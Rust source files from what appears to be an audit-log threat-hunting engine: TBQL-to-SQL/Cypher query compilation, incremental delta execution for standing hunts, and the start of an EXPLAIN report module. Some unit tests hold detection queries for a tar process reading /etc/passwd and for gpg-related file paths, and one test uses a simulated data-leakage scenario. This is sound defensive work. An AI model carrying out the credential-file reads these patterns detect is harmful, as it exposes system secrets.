                ("o".into(), var_pred(&pat.object_var)),
            ],
            projection: vec![
                ("s".into(), "id".into()),
                ("e".into(), "id".into()),
                ("o".into(), "id".into()),
            ],
            distinct: false,
        }
    }

    /// Builds the graph path query for a path pattern; `src`/`dst` come
    /// from evaluating the endpoint predicates against the entity tables.
    pub fn path_plan(
        &self,
        pat: &CompiledPattern,
        store: &AuditStore,
        extra: &HashMap<String, Predicate>,
    ) -> PathQuery {
        let CompiledShape::Path {
            min_hops,
            max_hops,
            last_op,
        } = &pat.shape
        else {
            panic!("path_plan on an event pattern");
        };
        let endpoint = |var: &str| {
            crate::exec::entity_filter_set_in(
                store.db.table(self.var_tables[var]),
                self,
                var,
                extra,
            )
        };
        PathQuery {
            src: Some(endpoint(&pat.subject_var)),
            dst: Some(endpoint(&pat.object_var)),
            min_hops: *min_hops,
            max_hops: *max_hops,
            last_op: Some(
                last_op
                    .parse()
                    .expect("operation names validated by analysis"),
            ),
            mid_ops: None,
            time_monotone: true,
            window: pat.window.map(|w| (w.lo, w.hi)),
            max_matches: crate::exec::MAX_PATH_MATCHES,
        }
    }

    /// Renders a path pattern as Cypher text (for the conciseness
    /// comparison and for debugging).
    pub fn to_cypher(&self, pat: &CompiledPattern) -> String {
        let CompiledShape::Path {
            min_hops,
            max_hops,
            last_op,
        } = &pat.shape
        else {
            // Event patterns render as single-hop relationships.
            let CompiledShape::Event { ops } = &pat.shape else {
                unreachable!()
            };
            let ops = ops
                .iter()
                .map(|o| o.to_uppercase())
                .collect::<Vec<_>>()
                .join("|");
            return format!(
                "MATCH ({s}:{st})-[e:{ops}]->({o}:{ot}) WHERE {w} RETURN {s}, e, {o};",
                s = pat.subject_var,
                st = label(self.var_tables[&pat.subject_var]),
                o = pat.object_var,
                ot = label(pat.object_table),
                w = cypher_where(self, pat),
            );
        };
        format!(
            "MATCH p = ({s}:{st})-[*{min}..{max}]->({o}:{ot}) \
             WHERE {w} AND last(relationships(p)).op = '{last_op}' RETURN p;",
            s = pat.subject_var,
            st = label(self.var_tables[&pat.subject_var]),
            min = min_hops,
            max = max_hops,
            o = pat.object_var,
            ot = label(pat.object_table),
            w = cypher_where(self, pat),
        )
    }
}

fn label(table: &str) -> &'static str {
    match table {
        store::TABLE_PROCESS => "Process",
        store::TABLE_FILE => "File",
        store::TABLE_NETWORK => "Connection",
        _ => "Entity",
    }
}

fn cypher_where(cq: &CompiledQuery, pat: &CompiledPattern) -> String {
    let mut parts = Vec::new();
    for var in [&pat.subject_var, &pat.object_var] {
        let pred = &cq.var_predicates[var];
        if !matches!(pred, Predicate::True) {
            parts.push(
                pred.to_sql(var)
                    .replace(" LIKE '%", " CONTAINS '")
                    .replace("%'", "'"),
            );
        }
    }
    if parts.is_empty() {
        "true".to_string()
    } else {
        parts.join(" AND ")
    }
}

/// Event-table predicate for operation alternatives.
pub fn op_predicate(ops: &[String]) -> Predicate {
    if ops.len() == 1 {
        Predicate::eq("op", ops[0].as_str())
    } else {
        Predicate::InSet(
            "op".into(),
            ops.iter().map(|o| Value::str(o.as_str())).collect(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::parser::{parse_query, FIG2_TBQL};

    fn compiled(src: &str) -> CompiledQuery {
        compile(&analyze(&parse_query(src).unwrap()).unwrap()).unwrap()
    }

    #[test]
    fn fig2_compiles_with_scores() {
        let cq = compiled(FIG2_TBQL);
        assert_eq!(cq.patterns.len(), 8);
        // Every variable carries one LIKE filter, so event patterns tie —
        // except evt8, whose exact-match IP earns the equality bonus.
        let score = |id: &str| cq.patterns.iter().find(|p| p.id == id).unwrap().score;
        assert_eq!(score("evt1"), score("evt2"));
        assert!(score("evt8") > score("evt1"));
        assert_eq!(cq.before.len(), 7);
        assert!(cq.distinct);
        assert_eq!(cq.returns.len(), 9);
    }

    #[test]
    fn event_plan_shape() {
        let cq = compiled(r#"proc p["%/bin/tar%"] read file f["%/etc/passwd%"] as e1 return p"#);
        let plan = cq.event_plan(&cq.patterns[0], &HashMap::new());
        assert_eq!(plan.from.len(), 3);
        let sql = plan.to_sql();
        assert!(sql.contains("process AS s"));
        assert!(sql.contains("event AS e"));
        assert!(sql.contains("file AS o"));
        assert!(sql.contains("s.id = e.subject"));
        assert!(sql.contains("e.op = 'read'"));
        assert!(sql.contains("s.exename LIKE '%/bin/tar%'"));
    }

    #[test]
    fn window_becomes_time_predicates() {
        let cq = compiled("proc p read file f as e1 window [100, 900] return p");
        let plan = cq.event_plan(&cq.patterns[0], &HashMap::new());
        let sql = plan.to_sql();
        assert!(sql.contains("e.start >= 100"));
        assert!(sql.contains("e.end <= 900"));
    }

    #[test]
    fn op_alternatives_become_in_set() {
        let cq = compiled("proc p read || write file f as e1 return p");
        let plan = cq.event_plan(&cq.patterns[0], &HashMap::new());
        let sql = plan.to_sql();
        assert!(sql.contains("e.op IN ('read', 'write')"), "{sql}");
    }

    #[test]
    fn expr_to_predicate_covers_ops() {
        let e = Expr::Cmp {
            attr: "pid".into(),
            op: CmpOp::Ge,
            value: Lit::Int(10),
        };
        assert_eq!(
            expr_to_predicate(&e),
            Predicate::Cmp("pid".into(), SqlCmp::Ge, Value::int(10))
        );
        let e = Expr::Or(vec![
            Expr::Cmp {
                attr: "owner".into(),
                op: CmpOp::Eq,
                value: Lit::Str("root".into()),
            },
            Expr::Cmp {
                attr: "exename".into(),
                op: CmpOp::Like,
                value: Lit::Str("%sh".into()),
            },
        ]);
        let p = expr_to_predicate(&e);
        assert!(matches!(p, Predicate::Or(ref legs) if legs.len() == 2));
    }

    #[test]
    fn cypher_rendering() {
        let cq = compiled(r#"proc p["%gpg%"] ~>(2~4)[read] file f as pp return p"#);
        let cypher = cq.to_cypher(&cq.patterns[0]);
        assert!(cypher.contains("[*2..4]"), "{cypher}");
        assert!(cypher.contains("last(relationships(p)).op = 'read'"));
        assert!(cypher.contains("CONTAINS 'gpg'"));

        let cq = compiled("proc p read || write file f as e1 return p");
        let cypher = cq.to_cypher(&cq.patterns[0]);
        assert!(cypher.contains("[e:READ|WRITE]"), "{cypher}");
    }

    #[test]
    fn infeasible_queries_rejected_at_compile() {
        let aq = analyze(
            &parse_query(
                "proc p read file f as e1 proc p write file g as e2 \
                 with e1 before e2, e2 before e1 return p, f, g",
            )
            .unwrap(),
        )
        .unwrap();
        let err = compile(&aq).unwrap_err();
        let EngineError::Infeasible(diags) = err else {
            panic!("expected Infeasible, got {err:?}");
        };
        assert_eq!(diags[0].code, "E001");
    }

    #[test]
    fn dbm_bounds_attach_only_when_tighter_than_window() {
        let cq = compiled(
            "proc p read file f as e1 window [100, 200] \
             proc p write file g as e2 \
             with e1 before e2 \
             return p, f, g",
        );
        let by_id = |id: &str| cq.patterns.iter().find(|p| p.id == id).unwrap();
        // e1's bounds equal its window — nothing to clamp beyond the scan
        // filters already applied.
        assert_eq!(by_id("e1").bounds, None);
        // e2 has no window but inherits `start ≥ 101` from the ordering.
        assert_eq!(
            by_id("e2").bounds,
            Some(TimeWindow {
                lo: 101,
                hi: u64::MAX
            })
        );
    }

    #[test]
    fn compile_with_lint_keeps_warnings() {
        let aq = analyze(&parse_query("proc p read file f as e1 return p").unwrap()).unwrap();
        let (cq, report) = compile_with_lint(&aq).unwrap();
        assert!(cq.patterns[0].bounds.is_none());
        assert!(!report.has_errors());
        assert_eq!(report.warnings().count(), 1); // `f` unconstrained
    }

    #[test]
    fn path_scores_penalize_length() {
        let cq = compiled(
            r#"proc p["%x%"] ~>(1~2)[read] file f as a
               proc q["%x%"] ~>(1~6)[read] file g as b
               return p"#,
        );
        let score = |id: &str| cq.patterns.iter().find(|p| p.id == id).unwrap().score;
        assert!(score("a") > score("b"));
    }
}
