//! Incremental (delta) execution for standing queries.
//!
//! A follow-mode hunt re-evaluates one compiled plan against successive
//! snapshots of a growing store. Full re-execution costs O(store) per
//! poll; this module makes the steady state O(delta) by splitting every
//! snapshot at its **stable frontier** — the sealed-event count carried
//! by [`StreamFrontier`] — and only re-scanning what can still change:
//!
//! * positions below the frontier are *stable*: sealed shards are
//!   immutable, global positions never shift (compaction concatenates),
//!   and a sealed CPR run can never absorb another constituent or be
//!   re-led;
//! * positions at or above the *previous* poll's frontier are *fresh*:
//!   newly sealed rows plus the entire open window (whose runs are still
//!   provisional and must be re-read every poll — re-leading needs no
//!   separate re-validation because the open window is always fresh).
//!
//! [`DeltaState`] retains, per schedule prefix, the **partial bindings**
//! whose witnesses are all stable. One poll then computes exactly the
//! matches containing at least one fresh row with the delta-join
//! recurrence
//!
//! ```text
//! Δ₀ = fresh₀                      (fresh scan of the first pattern)
//! Δᵢ = (Pᵢ₋₁ ⋈ freshᵢ) ∪ (Δᵢ₋₁ ⋈ fullᵢ)
//! ```
//!
//! where `Pᵢ₋₁` is the retained stable prefix and `fullᵢ` a full-range
//! (IN-set-filtered) scan that is *skipped entirely* when `Δᵢ₋₁` is
//! empty — the common steady-state case, which leaves per-poll scan
//! volume proportional to the epoch delta. The two branches are
//! disjoint (a combination is produced exactly once, at its first fresh
//! stage), so the union is concatenation. Matches whose witnesses are
//! all stable were necessarily complete at an earlier poll and already
//! delivered; everything else contains a fresh row and is found here —
//! the delta output, sorted into the full executor's nested-loop order,
//! is byte-identical to a full re-execution minus already-seen matches
//! (pinned by `tests/follow_parity.rs`).
//!
//! Partials are bounded: once the stream's settled bound (watermark
//! capped by the open window's earliest start) passes a partial's
//! feasible completion deadline — the next scheduled pattern's
//! DBM-tightened `[lo, hi]` upper bound, further clamped by `before`
//! constraints against already-bound patterns — no future fresh row can
//! ever join it, and [`DeltaState::age`] drops it.
//!
//! Path patterns are excluded ([`DeltaState::new`] returns `None`): a
//! path row may mix stable and fresh hops, so follow hunts over path
//! queries fall back to full re-execution.
//!
//! [`StreamFrontier`]: threatraptor_storage::StreamFrontier

use crate::compile::{CompiledPattern, CompiledQuery, CompiledShape};
use crate::exec::{join_rows, ExecMode};
use crate::result::{DeltaStats, HuntResult, HuntStats, JoinStats, Match};
use crate::sharded::ShardedEngine;
use std::collections::HashMap;
use std::collections::HashSet;
use std::time::Instant;
use threatraptor_storage::relational::{Predicate, Value};

/// Largest global event position witnessing a match.
fn max_event_pos(m: &Match) -> usize {
    m.events.values().flatten().copied().max().unwrap_or(0)
}

/// Latest start time a future row of `next` could have and still join
/// partial `m`: the pattern's effective feasible window (`bounds` when
/// the DBM tightened it, its own `window` otherwise) caps `start ≤ hi`,
/// and each `next before b` constraint with `b` already bound caps
/// `end < start_b`, hence `start ≤ start_b − 1`. `u64::MAX` when
/// nothing bounds it (such partials are never aged).
fn completion_deadline(cq: &CompiledQuery, next: &CompiledPattern, m: &Match) -> u64 {
    let mut deadline = u64::MAX;
    if let Some(b) = next.bounds.or(next.window) {
        deadline = deadline.min(b.hi);
    }
    for (a, b) in &cq.before {
        if a == &next.id {
            if let Some(&(start_b, _)) = m.times.get(b) {
                deadline = deadline.min(start_b.saturating_sub(1));
            }
        }
    }
    deadline
}

/// Builds the propagated IN-set filters a partial set pushes into a
/// pattern's scan (scheduled mode), recording pushed-down id counts.
fn in_set_filters(
    pat: &CompiledPattern,
    partial: &[Match],
    propagated: &mut Vec<(String, usize)>,
) -> HashMap<String, Predicate> {
    let mut extra = HashMap::new();
    for var in [&pat.subject_var, &pat.object_var] {
        let ids: HashSet<Value> = partial
            .iter()
            .filter_map(|m| m.bindings.get(var))
            .map(|e| Value::from(e.0))
            .collect();
        if !ids.is_empty() {
            propagated.push((var.clone(), ids.len()));
            extra.insert(var.clone(), Predicate::InSet("id".into(), ids));
        }
    }
    extra
}

/// Elementwise accumulation of per-shard scan counts (a stage can scan
/// twice: the fresh range and, when carrying a delta forward, the full
/// range).
fn add_shard_counts(total: &mut Vec<usize>, add: &[usize]) {
    if total.len() < add.len() {
        total.resize(add.len(), 0);
    }
    for (t, a) in total.iter_mut().zip(add) {
        *t += a;
    }
}

/// The retained state of one standing query's incremental evaluation:
/// the pinned schedule, the stable frontier the partials cover, and the
/// per-prefix partial bindings themselves.
#[derive(Debug, Clone)]
pub struct DeltaState {
    /// Pattern indices (into `cq.patterns`) in execution order — the
    /// same `(score desc, decl_index)` key the full executor uses, so
    /// delta and full polls join in the same order.
    schedule: Vec<usize>,
    /// `partials[i]`: every join of the schedule prefix `0..=i` whose
    /// witness positions are all below [`DeltaState::stable_events`].
    /// Only proper prefixes are retained (`len = patterns − 1`): the
    /// full-length prefix is the match set, delivered and deduplicated
    /// downstream.
    partials: Vec<Vec<Match>>,
    /// Global event-position bound of the stable prefix: every position
    /// below it is sealed in every snapshot this state has polled.
    stable_events: usize,
}

impl DeltaState {
    /// State for a compiled query, or `None` when the query cannot run
    /// incrementally (it contains a path pattern, whose rows may mix
    /// stable and fresh hops).
    pub fn new(cq: &CompiledQuery, mode: ExecMode) -> Option<DeltaState> {
        if cq
            .patterns
            .iter()
            .any(|p| matches!(p.shape, CompiledShape::Path { .. }))
        {
            return None;
        }
        let mut schedule: Vec<usize> = (0..cq.patterns.len()).collect();
        if mode == ExecMode::Scheduled {
            schedule.sort_by_key(|&i| {
                (
                    std::cmp::Reverse(cq.patterns[i].score),
                    cq.patterns[i].decl_index,
                )
            });
        }
        let prefixes = schedule.len().saturating_sub(1);
        Some(DeltaState {
            schedule,
            partials: vec![Vec::new(); prefixes],
            stable_events: 0,
        })
    }

    /// The stable frontier the retained partials cover.
    pub fn stable_events(&self) -> usize {
        self.stable_events
    }

    /// Retained partial bindings across all prefixes.
    pub fn retained(&self) -> usize {
        self.partials.iter().map(Vec::len).sum()
    }

    /// Discards all retained state (plan or snapshot discontinuity).
    /// The next poll scans from position zero — a full re-execution
    /// through the same code path — and rebuilds the partials.
    pub fn invalidate(&mut self) {
        for p in &mut self.partials {
            p.clear();
        }
        self.stable_events = 0;
    }

    /// Drops every partial whose feasible completion deadline lies
    /// strictly below `settled` (the stream's settled bound: no future
    /// fresh row can start earlier). Returns the number dropped.
    pub fn age(&mut self, cq: &CompiledQuery, settled: u64) -> usize {
        let mut dropped = 0usize;
        for i in 0..self.partials.len() {
            let next = &cq.patterns[self.schedule[i + 1]];
            self.partials[i].retain(|m| {
                let keep = completion_deadline(cq, next, m) >= settled;
                if !keep {
                    dropped += 1;
                }
                keep
            });
        }
        dropped
    }

    /// One incremental evaluation: returns exactly the matches that
    /// contain at least one fresh row (position ≥ the previous poll's
    /// stable frontier), in the full executor's match order, and
    /// advances the stable frontier to `stable_to` (the snapshot's
    /// sealed-event count), folding newly stable combinations into the
    /// retained partials.
    ///
    /// The caller is responsible for continuity: snapshots must come
    /// from one growing store, with `stable_to` non-decreasing across
    /// polls (on regression, [`DeltaState::invalidate`] first).
    pub fn poll(
        &mut self,
        engine: &ShardedEngine<'_>,
        cq: &CompiledQuery,
        mode: ExecMode,
        stable_to: usize,
    ) -> HuntResult {
        let t0 = Instant::now();
        let fresh_from = self.stable_events;
        let prefixes = self.partials.len();
        let mut stats = HuntStats::default();
        let mut dstats = DeltaStats {
            fresh_from,
            carried_partials: self.retained(),
            ..DeltaStats::default()
        };

        // Matches produced this poll (≥ 1 fresh witness), grown stage by
        // stage; newly stable combinations are staged into `pending` and
        // merged only after the loop — merging mid-poll would let a
        // combination reach a later stage through both branches.
        let mut delta: Vec<Match> = Vec::new();
        let mut pending: Vec<Vec<Match>> = vec![Vec::new(); prefixes];
        for (i, &pi) in self.schedule.iter().enumerate() {
            let pat = &cq.patterns[pi];
            let mut fetched = 0usize;
            let mut shard_counts: Vec<usize> = Vec::new();
            let mut pruned = 0usize;
            let mut propagated: Vec<(String, usize)> = Vec::new();
            let mut candidates = 0usize;
            let mut scan_elapsed = std::time::Duration::ZERO;

            // Branch A: fresh rows of this pattern joined against the
            // retained stable prefix (the first stage seeds from its
            // fresh scan alone).
            let seed = (i > 0).then(|| self.partials[i - 1].as_slice());
            let mut next: Vec<Match> = Vec::new();
            if seed.is_none_or(|p| !p.is_empty()) {
                let mut extra = HashMap::new();
                if mode == ExecMode::Scheduled {
                    let t_prop = Instant::now();
                    if let Some(p) = seed {
                        extra = in_set_filters(pat, p, &mut propagated);
                    }
                    stats.propagate_elapsed += t_prop.elapsed();
                }
                let t_scan = Instant::now();
                let (rows, per_shard, pr) = engine.fetch_pattern(cq, pat, &extra, mode, fresh_from);
                scan_elapsed += t_scan.elapsed();
                fetched += rows.len();
                dstats.fresh_rows += rows.len();
                add_shard_counts(&mut shard_counts, &per_shard);
                pruned += pr;
                candidates += seed.map_or(rows.len(), |p| p.len() * rows.len());
                let t_join = Instant::now();
                next = join_rows(cq, seed.map(<[Match]>::to_vec), rows, pat);
                stats.join_elapsed += t_join.elapsed();
            }

            // Branch B: combinations that already carry a fresh witness
            // extend through this pattern's full range. Skipped when the
            // incoming delta is empty — the steady-state case that keeps
            // the poll O(delta).
            if !delta.is_empty() {
                let mut extra = HashMap::new();
                if mode == ExecMode::Scheduled {
                    let t_prop = Instant::now();
                    extra = in_set_filters(pat, &delta, &mut propagated);
                    stats.propagate_elapsed += t_prop.elapsed();
                }
                let t_scan = Instant::now();
                let (rows, per_shard, pr) = engine.fetch_pattern(cq, pat, &extra, mode, 0);
                scan_elapsed += t_scan.elapsed();
                fetched += rows.len();
                dstats.carry_rows += rows.len();
                add_shard_counts(&mut shard_counts, &per_shard);
                pruned += pr;
                candidates += delta.len() * rows.len();
                let t_join = Instant::now();
                let carried = join_rows(cq, Some(std::mem::take(&mut delta)), rows, pat);
                stats.join_elapsed += t_join.elapsed();
                next.extend(carried);
            }

            if i < prefixes {
                pending[i].extend(
                    next.iter()
                        .filter(|m| max_event_pos(m) < stable_to)
                        .cloned(),
                );
            }
            delta = next;
            stats.execution_order.push(pat.id.clone());
            stats.rows_fetched.push((pat.id.clone(), fetched));
            stats.shard_rows.push((pat.id.clone(), shard_counts));
            stats.rows_pruned.push((pat.id.clone(), pruned));
            stats.propagated.push((pat.id.clone(), propagated));
            stats.join_stats.push((
                pat.id.clone(),
                JoinStats {
                    candidates,
                    outputs: delta.len(),
                },
            ));
            stats.pattern_elapsed.push((pat.id.clone(), scan_elapsed));
        }

        for (held, new) in self.partials.iter_mut().zip(pending) {
            held.extend(new);
        }
        self.stable_events = stable_to;

        // The full executor's nested loop emits matches lexicographically
        // by per-stage scan-row order, and event-pattern scans sort by
        // first witness position — so sorting by the schedule-ordered
        // witness-position vectors reproduces its order exactly, making
        // delta delivery byte-identical to full re-execution.
        delta.sort_by_cached_key(|m| {
            self.schedule
                .iter()
                .map(|&pi| {
                    m.events
                        .get(&cq.patterns[pi].id)
                        .cloned()
                        .unwrap_or_default()
                })
                .collect::<Vec<_>>()
        });
        dstats.retained_partials = self.retained();

        let t_project = Instant::now();
        let (columns, rows) = engine.project(cq, &delta);
        stats.project_elapsed = t_project.elapsed();
        stats.delta = Some(dstats);
        stats.elapsed = t0.elapsed();
        HuntResult {
            columns,
            rows,
            matches: delta,
            stats,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compile::compile;
    use crate::error::EngineError;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_storage::{SealPolicy, ShardedStore, StreamingStore};
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::parser::{parse_query, FIG2_TBQL};

    fn compiled(tbql: &str) -> CompiledQuery {
        compile(&analyze(&parse_query(tbql).unwrap()).unwrap()).unwrap()
    }

    fn full(snapshot: &ShardedStore, cq: &CompiledQuery) -> Result<HuntResult, EngineError> {
        ShardedEngine::with_threads(snapshot, 1).execute(cq, ExecMode::Scheduled)
    }

    /// The delta recurrence over chunked ingest produces, per poll,
    /// exactly the full execution's matches that contain a fresh row —
    /// cumulatively, the same match sequence as full re-execution.
    #[test]
    fn chunked_polls_reproduce_full_execution() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build();
        let cq = compiled(FIG2_TBQL);
        let mut state = DeltaState::new(&cq, ExecMode::Scheduled).expect("event-only");
        let mut store = StreamingStore::new(true, SealPolicy::events(350));
        store.append_batch(&sc.log.entities, &[]);

        let mut cumulative: Vec<Match> = Vec::new();
        for batch in sc.log.events.chunks(500) {
            store.append_batch(&[], batch);
            let snapshot = store.snapshot();
            let frontier = snapshot.frontier().expect("streaming snapshot");
            let engine = ShardedEngine::with_threads(&snapshot, 1);
            let out = state.poll(&engine, &cq, ExecMode::Scheduled, frontier.sealed_events);
            // Every delta match carries at least one fresh witness.
            let fresh_from = out.stats.delta.unwrap().fresh_from;
            assert!(out
                .matches
                .iter()
                .all(|m| max_event_pos(m) >= fresh_from || fresh_from == 0));
            for m in out.matches {
                if !cumulative.contains(&m) {
                    cumulative.push(m);
                }
            }
            // Cumulative deltas == full re-execution, order-normalized
            // (a full match can be re-found with an extended open-window
            // run, so compare sets, not sequences, mid-stream).
            let oracle = full(&snapshot, &cq).unwrap();
            for m in &oracle.matches {
                assert!(cumulative.contains(m), "delta path missed a match");
            }
        }
        assert!(!cumulative.is_empty());
    }

    /// Steady state: once the sealed history stops changing, a poll
    /// scans only the fresh range — carry scans are skipped entirely.
    #[test]
    fn steady_state_scans_only_the_fresh_range() {
        let sc = ScenarioBuilder::new().seed(7).target_events(3_000).build();
        let q = "proc p read file f return p, f";
        let cq = compiled(q);
        let mut state = DeltaState::new(&cq, ExecMode::Scheduled).unwrap();
        let mut store = StreamingStore::new(true, SealPolicy::events(300));
        store.append_batch(&sc.log.entities, &[]);
        let (head, tail) = sc.log.events.split_at(2_500);
        for batch in head.chunks(300) {
            store.append_batch(&[], batch);
        }
        {
            let snapshot = store.snapshot();
            let engine = ShardedEngine::with_threads(&snapshot, 1);
            state.poll(
                &engine,
                &cq,
                ExecMode::Scheduled,
                snapshot.frontier().unwrap().sealed_events,
            );
        }
        // Second poll: a small tail append. Rows scanned must be on the
        // order of the delta, not the store.
        store.append_batch(&[], &tail[..100.min(tail.len())]);
        let snapshot = store.snapshot();
        let engine = ShardedEngine::with_threads(&snapshot, 1);
        let out = state.poll(
            &engine,
            &cq,
            ExecMode::Scheduled,
            snapshot.frontier().unwrap().sealed_events,
        );
        let d = out.stats.delta.unwrap();
        assert!(d.fresh_from > 0, "frontier must have advanced");
        assert_eq!(d.carry_rows, 0, "single-pattern query never carries");
        assert!(
            d.fresh_rows <= snapshot.event_count() - d.fresh_from,
            "fresh scan restricted to the delta range"
        );
        assert!(
            out.stats.total_rows() < 2_000,
            "poll must not rescan history"
        );
    }

    /// Aging: a window-bounded pattern's partials die once the settled
    /// bound passes the feasible completion deadline.
    #[test]
    fn watermark_ages_out_dead_partials() {
        let sc = ScenarioBuilder::new().seed(11).target_events(2_000).build();
        let span_hi = sc.log.events.iter().map(|e| e.end).max().unwrap();
        let mid = sc.log.events[sc.log.events.len() / 2].start;
        // Two patterns sharing `p`; the second is windowed to the first
        // half of the stream, so partials waiting on it have a finite
        // deadline ≤ mid.
        let q = format!(
            "proc p read file f as e1 \
             proc p write file g as e2 window [0, {mid}] \
             with e1 before e2 \
             return p, f, g"
        );
        let cq = compiled(&q);
        let mut state = DeltaState::new(&cq, ExecMode::Scheduled).unwrap();
        let mut store = StreamingStore::new(true, SealPolicy::events(200));
        store.append_batch(&sc.log.entities, &[]);
        // Chunked appends so the seal policy fires and rows stabilize.
        for batch in sc.log.events.chunks(250) {
            store.append_batch(&[], batch);
        }
        let snapshot = store.snapshot();
        assert!(snapshot.frontier().unwrap().sealed_events > 0);
        let engine = ShardedEngine::with_threads(&snapshot, 1);
        state.poll(
            &engine,
            &cq,
            ExecMode::Scheduled,
            snapshot.frontier().unwrap().sealed_events,
        );
        assert!(state.retained() > 0, "the shared-var join retains partials");
        // Below every deadline: nothing ages. Past the stream: where the
        // windowed pattern is the *next* stage, everything ages.
        assert_eq!(state.age(&cq, 0), 0);
        let retained_before = state.retained();
        let dropped = state.age(&cq, span_hi + 1);
        assert!(dropped > 0, "deadline passage must drop partials");
        assert!(state.retained() < retained_before);
        // Partials whose next stage is unbounded are retained forever.
        let unbounded =
            compiled("proc p read file f as e1 proc p write file g as e2 return p, f, g");
        let mut st2 = DeltaState::new(&unbounded, ExecMode::Scheduled).unwrap();
        st2.poll(
            &engine,
            &unbounded,
            ExecMode::Scheduled,
            snapshot.frontier().unwrap().sealed_events,
        );
        let kept = st2.retained();
        assert_eq!(st2.age(&unbounded, u64::MAX), 0);
        assert_eq!(st2.retained(), kept);
    }

    /// Path queries cannot run incrementally.
    #[test]
    fn path_queries_are_rejected() {
        let cq = compiled("proc p[\"%tar%\"] ~>(1~2)[write] file f as pp1\nreturn p, f");
        assert!(DeltaState::new(&cq, ExecMode::Scheduled).is_none());
    }

    /// Invalidation resets to a from-zero scan that rebuilds partials.
    #[test]
    fn invalidate_forces_a_full_rescan() {
        let sc = ScenarioBuilder::new().seed(3).target_events(1_500).build();
        let cq = compiled("proc p read file f as e1 proc p write file g as e2 return p, f, g");
        let mut state = DeltaState::new(&cq, ExecMode::Scheduled).unwrap();
        let mut store = StreamingStore::new(true, SealPolicy::events(250));
        store.append_batch(&sc.log.entities, &[]);
        for batch in sc.log.events.chunks(300) {
            store.append_batch(&[], batch);
        }
        let snapshot = store.snapshot();
        let engine = ShardedEngine::with_threads(&snapshot, 1);
        let sealed = snapshot.frontier().unwrap().sealed_events;
        let first = state.poll(&engine, &cq, ExecMode::Scheduled, sealed);
        let retained = state.retained();
        state.invalidate();
        assert_eq!(state.retained(), 0);
        assert_eq!(state.stable_events(), 0);
        let again = state.poll(&engine, &cq, ExecMode::Scheduled, sealed);
        assert_eq!(again.matches, first.matches, "full rescan reproduces");
        assert_eq!(state.retained(), retained, "partials rebuilt");
    }
}
