//! EXPLAIN / EXPLAIN ANALYZE for TBQL hunts.
//!
//! [`ShardedEngine::explain`] renders the *compiled plan*: the
//! pruning-score pattern schedule, each pattern's merged entity
//! filters, backend choice, and predicted shard fan-out.
//! [`ShardedEngine::explain_analyze`] executes the hunt and attaches
//! *actuals*: per-pattern × per-shard rows scanned (exactly the counts
//! the engine's `engine_rows_scanned_total` counters export),
//! constraint-propagation prune sizes, join candidate/output
//! selectivity, and per-stage wall time. [`ExplainReport::render`]
//! produces a stable text form built on the tbql canonical printer.

use std::fmt::Write as _;
use std::time::Duration;

use crate::compile::{compile, CompiledPattern, CompiledQuery, CompiledShape};
use crate::error::EngineError;
use crate::exec::ExecMode;
use crate::result::{HuntResult, HuntStats, JoinStats};
use crate::sharded::ShardedEngine;
use threatraptor_tbql::analyze::analyze;
use threatraptor_tbql::ast::Query;
use threatraptor_tbql::parser::parse_query;
use threatraptor_tbql::printer::{print_pattern, print_query};

/// One pattern's plan entry, in schedule order.
#[derive(Debug, Clone)]
pub struct ExplainEntry {
    /// Pattern id (`evt1` …).
    pub pattern: String,
    /// Canonical TBQL source line of the pattern.
    pub source: String,
    /// Pruning score (higher executes earlier in scheduled mode).
    pub score: i64,
    /// Shape label: `event[read]` or `path(1~3)[write]`.
    pub shape: String,
    /// Chosen backend for this pattern under the report's mode.
    pub backend: &'static str,
    /// `(variable, rendered predicate)` for subject then object.
    pub filters: Vec<(String, String)>,
    /// Predicted shard fan-out of the data query.
    pub fanout: usize,
    /// Predicted DBM-clamped feasible time range `(lo, hi)`, present
    /// when the closure tightened the pattern beyond its own window.
    pub bounds: Option<(u64, u64)>,
}

/// Actuals of one pattern's execution, in execution order.
#[derive(Debug, Clone)]
pub struct PatternActuals {
    /// Pattern id.
    pub pattern: String,
    /// Rows scanned per shard (index = shard).
    pub shard_rows: Vec<usize>,
    /// Propagated IN-set sizes per constrained variable.
    pub propagated: Vec<(String, usize)>,
    /// Join candidate/output counts.
    pub join: JoinStats,
    /// Rows the DBM feasible-range clamp excluded — the same count the
    /// `engine_rows_pruned_total{pattern}` counter records for this
    /// execution (both read [`HuntStats::rows_pruned`]).
    ///
    /// [`HuntStats::rows_pruned`]: crate::result::HuntStats::rows_pruned
    pub rows_pruned: usize,
    /// Wall time of the pattern's data query.
    pub elapsed: Duration,
}

impl PatternActuals {
    /// Total rows scanned across shards.
    pub fn total_rows(&self) -> usize {
        self.shard_rows.iter().sum()
    }
}

/// Measured execution section of a report.
#[derive(Debug, Clone)]
pub struct ExplainActuals {
    /// Per-pattern actuals, in execution order.
    pub patterns: Vec<PatternActuals>,
    /// Total scan wall time.
    pub scan: Duration,
    /// Constraint-propagation wall time.
    pub propagate: Duration,
    /// Join wall time.
    pub join: Duration,
    /// Projection wall time.
    pub project: Duration,
    /// End-to-end execution wall time.
    pub total: Duration,
    /// Complete matches produced.
    pub matches: usize,
    /// Delta-mode actuals, when the execution ran incrementally (a
    /// follow-mode poll through the delta path): fresh-range start,
    /// fresh/carry rows scanned, and retained-partial counts.
    pub delta: Option<crate::result::DeltaStats>,
}

/// A rendered query plan, optionally with execution actuals.
#[derive(Debug, Clone)]
pub struct ExplainReport {
    /// Canonical TBQL text of the query.
    pub tbql: String,
    /// Execution mode the plan was built for.
    pub mode: ExecMode,
    /// Shard count of the target store.
    pub shards: usize,
    /// Plan entries in schedule order.
    pub entries: Vec<ExplainEntry>,
    /// Present after `explain_analyze`.
    pub actuals: Option<ExplainActuals>,
}

impl ExplainReport {
    /// Rows scanned for `pattern` on `shard`, when actuals are present.
    pub fn rows_scanned(&self, pattern: &str, shard: usize) -> Option<usize> {
        let actuals = self.actuals.as_ref()?;
        let pat = actuals.patterns.iter().find(|p| p.pattern == pattern)?;
        pat.shard_rows.get(shard).copied()
    }

    /// Total rows scanned across all patterns and shards.
    pub fn total_rows_scanned(&self) -> usize {
        self.actuals
            .as_ref()
            .map(|a| a.patterns.iter().map(PatternActuals::total_rows).sum())
            .unwrap_or(0)
    }

